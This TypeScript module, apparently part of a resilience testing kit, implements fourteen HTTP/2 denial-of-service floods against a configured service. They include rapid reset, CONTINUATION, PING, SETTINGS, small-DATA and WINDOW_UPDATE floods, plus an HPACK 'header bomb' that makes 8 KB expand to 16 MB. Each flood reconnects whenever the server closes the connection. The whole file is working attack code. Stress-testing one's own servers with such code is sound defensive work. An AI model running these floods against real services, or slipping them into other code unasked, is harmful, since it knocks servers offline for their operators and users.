import { setTimeout as sleep, setImmediate as turn } from 'node:timers/promises';
import { END_HEADERS, H2_PREFACE, h2Frame, h2Headers } from '@activescale/devkit';
import type { Assault, Attack } from './assault.ts';
import { connectRaw, type RawOptions } from './raw-connection.ts';

// What HTTP/2 lets a client send, as fast as the server accepts it. Each flood goes on over a new connection when the
// server closes the old one.

/** How a service is reached, and what a request to it looks like. */
export interface Service<Target> {
  readonly connection: (target: Target) => RawOptions;
  /** Header fields of a request that the service reads. */
  readonly fields: Readonly<Record<string, string>>;
}

interface Flood {
  readonly name: string;
  /** Written once, after the preface. */
  readonly first?: (request: Buffer) => Buffer;
  /** What is written again and again; client streams have odd numbers. */
  readonly frames: (stream: number, request: Buffer) => Buffer;
  readonly batch?: number;
  /** Connections at once. */
  readonly connections?: number;
}

const CANCEL = Buffer.from([0, 0, 0, 8]);
const SETTINGS = Buffer.from([0, 3, 0, 0, 0, 100]);
const PART = h2Frame('continuation', 0, 1, h2Headers({ x: 'y'.repeat(100) }));
/** The frame of a gRPC message of 1 MiB, which does not follow. */
const HALF_A_MESSAGE = Buffer.from([0, 0, 16, 0, 0]);
const ONE_BYTE = h2Frame('data', 0, 1, Buffer.alloc(1));
const REFERENCES = 4_000;
const STREAMS = Array.from({ length: 90 }, (_, i) => 2 * i + 1);

/** A field of 4 KB for the dynamic table (RFC 7541, 6.2.1), and references to it: 16 MB of headers in 8 KB. */
const HEADER_BOMB = Buffer.concat([
  Buffer.from([0x40, 1]),
  Buffer.from('x'),
  Buffer.from([0x7f, 0x81, 0x1e]), // 127 + 1 + (30 << 7) = 3,968 bytes
  Buffer.alloc(3_968, 'y'),
  Buffer.alloc(REFERENCES, 0xbe), // index 62, the first of the dynamic table
]);

const headers = (stream: number, block: Buffer) => h2Frame('headers', END_HEADERS, stream, block);

const FLOODS: readonly Flood[] = [
  {
    name: 'rapid-reset',
    frames: (stream, request) => Buffer.concat([headers(stream, request), h2Frame('rst', 0, stream, CANCEL)]),
  },
  { name: 'ping-flood', frames: () => h2Frame('ping', 0, 0, Buffer.alloc(8)) },
  { name: 'settings-flood', frames: () => h2Frame('settings', 0, 0, SETTINGS) },
  { name: 'continuation-flood', first: (request) => h2Frame('headers', 0, 1, request), frames: () => PART },
  {
    name: 'empty-data',
    first: (request) => headers(1, request),
    frames: () => h2Frame('data', 0, 1, Buffer.alloc(0)),
  },
  {
    name: 'small-data',
    first: (request) => Buffer.concat([headers(1, request), h2Frame('data', 0, 1, HALF_A_MESSAGE)]),
    frames: () => ONE_BYTE,
    batch: 2_000,
  },
  {
    // Of as many requests as a connection may have.
    name: 'small-data-of-many',
    first: (request) => Buffer.concat(STREAMS.map((stream) => headers(stream, request))),
    frames: (stream) => h2Frame('data', 0, STREAMS[stream % STREAMS.length] ?? 1, Buffer.alloc(1)),
    batch: 2_000,
    connections: 5,
  },
  { name: 'goaway-flood', frames: () => h2Frame('goaway', 0, 0, Buffer.alloc(8)) },
  { name: 'priority-flood', frames: () => h2Frame('priority', 0, 1, Buffer.from([0, 0, 0, 3, 8])) },
  { name: 'window-updates', frames: () => h2Frame('windowUpdate', 0, 0, Buffer.from([0, 0, 0, 1])) },
  {
    name: 'header-bomb',
    frames: (stream, request) => headers(stream, Buffer.concat([request, HEADER_BOMB])),
    batch: 5,
  },
  {
    name: 'header-bomb-of-many',
    frames: (stream, request) => headers(stream, Buffer.concat([request, HEADER_BOMB])),
    batch: 5,
    connections: 10,
  },
  {
    // As much as node:http2 reads in one turn of the event loop, from each connection.
    name: 'header-bursts',
    frames: (stream, request) => headers(stream, Buffer.concat([request, HEADER_BOMB])),
    batch: 256,
    connections: 20,
  },
  {
    name: 'large-headers',
    frames: (stream, request) => {
      const fields = Array.from({ length: 60 }, (_, i) => [`x-${i}`, 'v'.repeat(120)]);
      return headers(stream, Buffer.concat([request, h2Headers(Object.fromEntries(fields))]));
    },
    batch: 20,
  },
];

const MAX_STREAM = 2 ** 31 - 1;

async function flood<Target>(
  { frames, first, batch = 200 }: Flood,
  { connection, fields }: Service<Target>,
  { target, signal, got }: Assault<Target>,
): Promise<void> {
  const request = h2Headers(fields);
  while (!signal.aborted) {
    using raw = await connectRaw(connection(target));
    await raw.write(Buffer.concat([H2_PREFACE, first?.(request) ?? Buffer.alloc(0)]));
    for (let id = 1; !raw.closed && !signal.aborted && id < MAX_STREAM - 2 * batch; id += 2 * batch) {
      const written = Array.from({ length: batch }, (_, i) => frames(id + 2 * i, request));
      await raw.write(Buffer.concat(written));
      await turn();
    }
    if (raw.closed) got('connection closed');
    await sleep(5);
  }
}

/** The floods of HTTP/2 against one service. */
export function floodsOf<Target>(service: Service<Target>): Attack<Target>[] {
  return FLOODS.map((each) => ({
    name: each.name,
    async run(assault) {
      const one = () => flood(each, service, assault);
      await Promise.all(Array.from({ length: each.connections ?? 1 }, one));
    },
  }));
}
